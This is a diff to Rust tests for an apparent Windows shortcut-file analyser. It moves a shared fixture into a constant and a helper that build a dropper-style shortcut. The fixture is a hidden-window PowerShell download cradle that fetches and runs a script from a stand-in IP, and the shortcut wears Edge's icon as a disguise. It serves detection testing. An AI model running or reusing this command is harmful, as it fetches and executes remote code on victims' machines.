@@ -161,19 +161,27 @@ fn findings(data: &[u8]) -> crate::Node {
     n
 }
 
-#[test]
-fn powershell_download_shortcut() {
-    let args = "-nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')\"";
-    let data = build(&Spec {
+/// A PowerShell download cradle's arguments, and the shortcut that runs it the way droppers ship it
+/// (hidden window, Edge's icon, PowerShell's full path in LinkInfo).
+const PS_DOWNLOAD: &str = "-nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')\"";
+
+fn ps_download() -> Vec<u8> {
+    build(&Spec {
         path: PS,
         link_info: Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
-        args,
+        args: PS_DOWNLOAD,
         icon: Some("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"),
         icon_index: 11,
         show: 7,
         machine: Some("desktop-a1b2c3"),
         overrun: false,
-    });
+    })
+}
+
+#[test]
+fn powershell_download_shortcut() {
+    let args = PS_DOWNLOAD;
+    let data = ps_download();
     let l = parse(&data).unwrap();
     assert_eq!(
         l.id_list_path.as_deref(),
@@ -454,17 +462,8 @@ fn environment_block_launcher_is_examined_whatever_is_shown() {
 
 #[test]
 fn command_fingerprint_ignores_icon_padding_and_tracker() {
-    let args = "-nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')\"";
-    let a = build(&Spec {
-        path: PS,
-        link_info: Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
-        args,
-        icon: Some("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"),
-        icon_index: 11,
-        show: 7,
-        machine: Some("desktop-a1b2c3"),
-        overrun: false,
-    });
+    let args = PS_DOWNLOAD;
+    let a = ps_download();
     // The same command line from another build: other icon, argument padding and case, another
     // machine in the tracker block, no LinkInfo.
     let padded = format!("{}{}", " ".repeat(300), args.replace("-nop", "-NoP  "));
